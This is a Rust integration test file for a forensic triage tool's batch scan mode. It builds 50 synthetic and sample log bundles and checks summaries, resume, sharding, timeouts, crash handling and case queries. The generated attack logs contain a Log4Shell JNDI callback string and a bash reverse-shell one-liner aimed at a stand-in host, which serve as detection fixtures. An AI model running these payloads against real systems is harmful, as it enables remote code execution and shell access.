//! Batch scans (`scan --batch`): 50 bundles (the two samples twice each, 43 generated ones,
//! 3 corrupt), the summary against one in-process scan of the same bundles, the exit code,
//! `--resume` doing no work, a killed batch resumed, shards merged, `--timeout`, `case`.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::OnceLock;

use serde_json::Value;

use crate::util::{bin, root, write_files};

fn ctriage(args: &[&str]) -> Output {
    Command::new(bin()).args(args).env("SOURCE_DATE_EPOCH", "1764547200").output().expect("run ctriage")
}

fn log_line(text: &str, time: &str) -> String {
    serde_json::json!({ "log": format!("{text}\n"), "stream": "stdout", "time": time }).to_string() + "\n"
}

/// A small json-file log bundle: benign access lines, and with `attack` a Log4Shell request
/// from a per-bundle address calling back to one shared host, and a reverse shell.
fn generated_log(i: usize, attack: bool) -> String {
    let mut log = String::new();
    for n in 0..10 {
        log += &log_line(
            &format!("10.1.{i}.{n} - - [27/Nov/2026:14:0{n}:00 +0000] \"GET /page/{n} HTTP/1.1\" 200 512 \"-\" \"curl/8.0\""),
            &format!("2026-11-27T14:0{n}:00.000000000Z"),
        );
    }
    if attack {
        log += &log_line(
            &format!("198.18.0.{i} - - [27/Nov/2026:14:21:07 +0000] \"GET /?q=${{jndi:ldap://203.0.113.66:1389/x{i}}} HTTP/1.1\" 200 512 \"-\" \"-\""),
            "2026-11-27T14:21:07.000000000Z",
        );
        log += &log_line("bash -i >& /dev/tcp/203.0.113.66/4444 0>&1", "2026-11-27T14:21:08.000000000Z");
    }
    log
}

/// Build the 50-bundle batch under `dir`; returns every bundle's name.
fn make_batch(dir: &Path) -> Vec<String> {
    let copy = |from: &str, to: &str| {
        let st = Command::new("cp").arg("-r").arg(root().join(from)).arg(dir.join(to)).status().unwrap();
        assert!(st.success());
    };
    std::fs::create_dir_all(dir).unwrap();
    copy("samples/dvwa", "dvwa-1");
    copy("samples/dvwa", "dvwa-2");
    copy("samples/log4shell", "log4shell-1");
    copy("samples/log4shell", "log4shell-2");
    for i in 0..43 {
        let log = generated_log(i, i % 3 == 0);
        if i % 10 == 7 {
            // A bundle archive: a tar of the bundle's files.
            let mut b = tar::Builder::new(vec![]);
            let mut h = tar::Header::new_gnu();
            h.set_size(log.len() as u64);
            h.set_mode(0o644);
            h.set_mtime(1_764_000_000);
            h.set_cksum();
            b.append_data(&mut h, "app/container-json.log", log.as_bytes()).unwrap();
            std::fs::write(dir.join(format!("gen-{i:02}.tar")), b.into_inner().unwrap()).unwrap();
        } else {
            write_files(&dir.join(format!("gen-{i:02}")), &[("container-json.log", log.as_bytes())]);
        }
    }
    // Corrupt: a truncated image tar, garbage bytes, an empty directory.
    let image = std::fs::read(root().join("samples/dvwa/image.tar")).unwrap();
    std::fs::write(dir.join("corrupt-truncated.tar"), &image[..30_000]).unwrap();
    let garbage: Vec<u8> = (0u32..20_000).map(|n| (n.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    std::fs::write(dir.join("corrupt-garbage.bin"), garbage).unwrap();
    std::fs::create_dir_all(dir.join("corrupt-empty")).unwrap();
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(names.len(), 50);
    names
}

fn batch(input: &Path, out: &Path, extra: &[&str]) -> Output {
    let mut args =
        vec!["scan", "--batch", input.to_str().unwrap(), "--out", out.to_str().unwrap(), "-j", "2"];
    args.extend(extra);
    ctriage(&args)
}

fn summary(out: &Path) -> Value {
    serde_json::from_slice(&std::fs::read(out.join("summary.json")).unwrap()).unwrap()
}

fn dump(out: &Path) -> Vec<String> {
    ctriage::case::CaseDb::open_read_only(&out.join("case.sqlite")).unwrap().canonical_dump().unwrap()
}

/// The batch input and one uninterrupted run of it, shared by the tests below.
struct Reference {
    _tmp: tempfile::TempDir,
    input: PathBuf,
    out: PathBuf,
    names: Vec<String>,
    code: Option<i32>,
    stdout: String,
    dump: Vec<String>,
}

fn reference() -> &'static Reference {
    static R: OnceLock<Reference> = OnceLock::new();
    R.get_or_init(|| {
        let tmp = tempfile::tempdir().unwrap();
        let input = tmp.path().join("evidence");
        let names = make_batch(&input);
        let out = tmp.path().join("out");
        let o = batch(&input, &out, &[]);
        let stdout = String::from_utf8_lossy(&o.stdout).into_owned();
        assert!(out.join("summary.json").is_file(), "{stdout}\n{}", String::from_utf8_lossy(&o.stderr));
        Reference { dump: dump(&out), _tmp: tmp, input, out, names, code: o.status.code(), stdout }
    })
}

/// The bundles of a summary, by name.
fn summary_names(s: &Value) -> Vec<String> {
    s["bundles"].as_array().unwrap().iter().map(|b| b["bundle"].as_str().unwrap().to_string()).collect()
}

#[test]
fn batch_of_50_lists_every_bundle_with_the_verdict_of_a_scan_and_both_exit_bits() {
    let r = reference();
    assert_eq!(r.code, Some(7), "{}", r.stdout);
    let s = summary(&r.out);
    assert_eq!(summary_names(&s), r.names);
    assert_eq!(s["totals"]["bundles"], 50);
    assert_eq!(s["totals"]["ok"], 50);
    assert_eq!(s["totals"]["scanned"], 50);
    assert_eq!(s["totals"]["exit_code"], 7);
    // One in-process scan of the same 50 paths gives every bundle's verdict and counts.
    let paths: Vec<String> = r.names.iter().map(|n| r.input.join(n).display().to_string()).collect();
    let mut args: Vec<&str> = vec!["scan", "--format", "json", "-q"];
    args.extend(paths.iter().map(String::as_str));
    let one = ctriage(&args);
    let one: Value = serde_json::from_slice(&one.stdout).unwrap();
    let rows = s["bundles"].as_array().unwrap();
    for (b, row) in one["bundles"].as_array().unwrap().iter().zip(rows) {
        assert_eq!(
            b["path"].as_str().unwrap(),
            r.input.join(row["bundle"].as_str().unwrap()).display().to_string()
        );
        assert_eq!(
            row["verdict"].as_str(),
            Some(ctriage::case::ingest::bundle_verdict(b)),
            "{}",
            row["bundle"]
        );
        for sev in ["critical", "high", "medium", "low", "info"] {
            let n = b["findings"].as_array().unwrap().iter().filter(|f| f["severity"] == sev).count();
            assert_eq!(row["findings"][sev].as_u64(), Some(n as u64), "{} {sev}", row["bundle"]);
        }
        // Each folder holds every format and the manifest.
        let folder = r.out.join(row["folder"].as_str().unwrap());
        for f in ["report.json", "report.txt", "records.jsonl", "report.html", "manifest.json"] {
            assert!(folder.join(f).is_file(), "{}", folder.join(f).display());
        }
        assert_eq!(row["input_sha256"].as_str().map(str::len), Some(64));
    }
    let verdict = |name: &str| rows.iter().find(|x| x["bundle"] == name).unwrap()["verdict"].clone();
    assert_eq!(verdict("dvwa-1"), "compromised");
    assert_eq!(verdict("log4shell-2"), "compromised");
    assert_eq!(verdict("gen-01"), "no sign");
    let truncated = rows.iter().find(|x| x["bundle"] == "corrupt-truncated.tar").unwrap();
    assert!(truncated["errors"].as_u64().unwrap() > 0 && truncated["exit_code"].as_i64().unwrap() & 2 == 2);
    // The table on standard output names every bundle.
    for n in &r.names {
        assert!(r.stdout.lines().any(|l| l.starts_with(n.as_str())), "{n} missing in\n{}", r.stdout);
    }
}

#[test]
fn resume_does_no_work_and_keeps_the_database() {
    let r = reference();
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("out");
    assert!(Command::new("cp").arg("-a").arg(&r.out).arg(&out).status().unwrap().success());
    let before = std::fs::metadata(out.join("bundles/dvwa-1/report.json")).unwrap().modified().unwrap();
    let o = batch(&r.input, &out, &["--resume"]);
    assert_eq!(o.status.code(), Some(7));
    let s = summary(&out);
    assert_eq!(s["totals"]["skipped"], 50, "{}", String::from_utf8_lossy(&o.stdout));
    assert_eq!(s["totals"]["scanned"], 0);
    assert_eq!(dump(&out), r.dump);
    assert_eq!(
        std::fs::metadata(out.join("bundles/dvwa-1/report.json")).unwrap().modified().unwrap(),
        before
    );
    // Changed evidence is scanned again, and only it.
    std::fs::write(r.input.join("gen-01/container-json.log"), generated_log(1, true)).unwrap();
    let o = batch(&r.input, &out, &["--resume"]);
    std::fs::write(r.input.join("gen-01/container-json.log"), generated_log(1, false)).unwrap();
    let s = summary(&out);
    assert_eq!(s["totals"]["scanned"], 1, "{}", String::from_utf8_lossy(&o.stdout));
    let row = s["bundles"].as_array().unwrap().iter().find(|b| b["bundle"] == "gen-01").unwrap();
    assert_eq!((row["action"].as_str(), row["verdict"].as_str()), (Some("scanned"), Some("suspicious")));
}

#[test]
fn a_killed_batch_resumed_gives_the_same_case_database() {
    let r = reference();
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("out");
    let mut child = Command::new(bin())
        .args(["scan", "--batch", r.input.to_str().unwrap(), "--out", out.to_str().unwrap(), "-j", "2"])
        .env("SOURCE_DATE_EPOCH", "1764547200")
        .stdout(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let done = || std::fs::read_dir(out.join("bundles")).map(|d| d.count()).unwrap_or(0);
    let start = std::time::Instant::now();
    // A bundle's folder exists from its start: with -j 2, two may still be running when the
    // batch is killed, so 14 folders mean at least 12 recorded bundles.
    while done() < 14 {
        assert!(start.elapsed().as_secs() < 300, "the batch made no progress");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    child.kill().unwrap();
    child.wait().unwrap();
    let partial = dump(&out).iter().filter(|l| l.starts_with("bundles\t")).count();
    assert!((12..50).contains(&partial), "killed after {partial} bundles");
    let o = batch(&r.input, &out, &["--resume"]);
    assert_eq!(o.status.code(), Some(7));
    let s = summary(&out);
    assert_eq!(summary_names(&s), r.names);
    assert!(s["totals"]["skipped"].as_u64().unwrap() >= 12, "{}", s["totals"]);
    assert_eq!(dump(&out), r.dump);
    assert!(!out.join(".partial").exists());
}

#[test]
fn four_shards_cover_every_bundle_once_and_merge_to_the_same_database() {
    let r = reference();
    let tmp = tempfile::tempdir().unwrap();
    let mut seen: Vec<String> = vec![];
    let mut outs = vec![];
    for k in 1..=4 {
        let out = tmp.path().join(format!("shard-{k}"));
        let o = batch(&r.input, &out, &["--shard", &format!("{k}/4"), "-q"]);
        assert!(o.status.code().is_some_and(|c| (0..=7).contains(&c)));
        let s = summary(&out);
        assert_eq!(s["shard"], format!("{k}/4"));
        let names = summary_names(&s);
        assert!(!names.is_empty() && names.len() < 50, "shard {k}: {names:?}");
        seen.extend(names);
        outs.push(out.display().to_string());
    }
    seen.sort();
    assert_eq!(seen, r.names, "every bundle exactly once");
    let merged = tmp.path().join("merged");
    let mut args = vec!["merge"];
    args.extend(outs.iter().map(String::as_str));
    args.extend(["--out", merged.to_str().unwrap()]);
    let o = ctriage(&args);
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(dump(&merged), r.dump);
    let s = summary(&merged);
    assert_eq!(summary_names(&s), r.names);
    assert_eq!(s["totals"]["exit_code"], 7);
    assert!(merged.join("bundles/dvwa-2/report.html").is_file());
}

#[test]
fn case_answers_questions_across_bundles() {
    let r = reference();
    let db = r.out.join("case.sqlite");
    let db = db.to_str().unwrap();
    let json = |q: &str| -> Vec<Value> {
        let o = ctriage(&["case", db, q, "--format", "JSON"]);
        assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
        let v: Value = serde_json::from_slice(&o.stdout).unwrap();
        assert_eq!(v["question"], q.to_lowercase());
        v["rows"].as_array().unwrap().clone()
    };
    let iocs = json("iocs");
    let callback = iocs.iter().find(|i| i["value"] == "203.0.113.66").expect("the shared callback host");
    assert!(callback["bundles"].as_i64().unwrap() > 10, "{callback}");
    let files = json("Files");
    assert!(
        files.iter().any(|f| f["where_found"]
            .as_str()
            .unwrap()
            .contains("dvwa-1:/var/www/html/hackable/uploads/shell.php")
            && f["bundles"] == 2),
        "{files:?}"
    );
    let images = json("images");
    assert!(images.iter().any(|i| i["compromised"] == 2 && i["bundles"] == 2), "{images:?}");
    let timeline = json("timeline");
    let times: Vec<&str> = timeline.iter().map(|t| t["time"].as_str().unwrap()).collect();
    assert!(times.windows(2).all(|w| w[0] <= w[1]));
    let in_timeline: BTreeSet<&str> = timeline.iter().map(|t| t["bundle"].as_str().unwrap()).collect();
    for b in ["dvwa-1", "log4shell-2", "gen-00", "gen-42"] {
        assert!(in_timeline.contains(b), "{b} not in the combined timeline");
    }
    let csv = ctriage(&["case", db, "bundles", "--format", "csv"]);
    assert_eq!(String::from_utf8_lossy(&csv.stdout).lines().count(), 51);
    let text = ctriage(&["case", db, "iocs"]);
    assert!(String::from_utf8_lossy(&text.stdout).starts_with("TYPE"));
}

#[test]
fn a_bundle_past_its_timeout_is_reported_and_the_batch_goes_on() {
    let tmp = tempfile::tempdir().unwrap();
    let input = tmp.path().join("in");
    write_files(&input.join("a"), &[("container-json.log", generated_log(0, false).as_bytes())]);
    write_files(&input.join("b"), &[("container-json.log", generated_log(1, false).as_bytes())]);
    let out = tmp.path().join("out");
    let o = batch(&input, &out, &["--timeout", "0.001", "-q"]);
    assert_eq!(o.status.code(), Some(2), "{}", String::from_utf8_lossy(&o.stdout));
    let s = summary(&out);
    assert_eq!(s["totals"]["timed_out"], 2);
    assert!(s["bundles"][0]["message"].as_str().unwrap().contains("killed after"));
    assert!(!out.join("bundles/a").exists());
    // Without the limit, resume scans them.
    let o = batch(&input, &out, &["--resume", "-q"]);
    assert_eq!(o.status.code(), Some(0));
    assert_eq!(summary(&out)["totals"]["scanned"], 2);
}

/// A child that dies (here: killed by a signal while it waits on a FIFO no one writes) is
/// reported as crashed, sets bit 1, and the other bundles are still scanned.
#[test]
fn a_child_that_dies_is_reported_as_crashed_and_the_batch_goes_on() {
    let tmp = tempfile::tempdir().unwrap();
    let input = tmp.path().join("in");
    write_files(&input.join("a"), &[("container-json.log", generated_log(0, false).as_bytes())]);
    let fifo = input.join("stuck");
    assert!(Command::new("mkfifo").arg(&fifo).status().unwrap().success());
    let out = tmp.path().join("out");
    let batch = Command::new(bin())
        .args(["scan", "--batch", input.to_str().unwrap(), "--out", out.to_str().unwrap(), "-q", "-j", "2"])
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // The child scanning the FIFO blocks opening it: find it among the batch's children.
    let parent = batch.id().to_string();
    let started = std::time::Instant::now();
    let stuck = loop {
        let found = std::fs::read_dir("/proc").unwrap().flatten().find_map(|e| {
            let stat = std::fs::read_to_string(e.path().join("stat")).ok()?;
            let ppid = stat.rsplit_once(") ")?.1.split(' ').nth(1)?.to_string();
            let cmdline = std::fs::read(e.path().join("cmdline")).ok()?;
            (ppid == parent && String::from_utf8_lossy(&cmdline).contains("stuck"))
                .then(|| e.file_name().to_string_lossy().into_owned())
        });
        if let Some(pid) = found {
            break pid;
        }
        assert!(started.elapsed().as_secs() < 60, "no child for the FIFO bundle");
        std::thread::sleep(std::time::Duration::from_millis(50));
    };
    assert!(Command::new("kill").args(["-KILL", &stuck]).status().unwrap().success());
    let o = batch.wait_with_output().unwrap();
    assert_eq!(o.status.code(), Some(2), "{}", String::from_utf8_lossy(&o.stdout));
    let s = summary(&out);
    let status = |name: &str| {
        s["bundles"].as_array().unwrap().iter().find(|b| b["bundle"] == name).map(|b| b["status"].clone())
    };
    assert_eq!(status("stuck"), Some("crashed".into()), "{s:#}");
    assert_eq!(status("a"), Some("ok".into()), "{s:#}");
    assert!(out.join("bundles/a/manifest.json").is_file() && !out.join("bundles/stuck").exists());
}

#[test]
fn batch_flags_need_a_batch_and_an_out_dir() {
    let dvwa = root().join("samples/dvwa");
    let dvwa = dvwa.to_str().unwrap();
    for args in [
        &["scan", dvwa, "--shard", "1/2"][..],
        &["scan", dvwa, "--resume"],
        &["scan", dvwa, "--timeout", "5"],
        &["scan", "--batch", dvwa],
        &["scan", "--batch", dvwa, "--out", "/nonexistent/x", "--shard", "3/2"],
    ] {
        assert_eq!(ctriage(args).status.code(), Some(64), "{args:?}");
    }
}
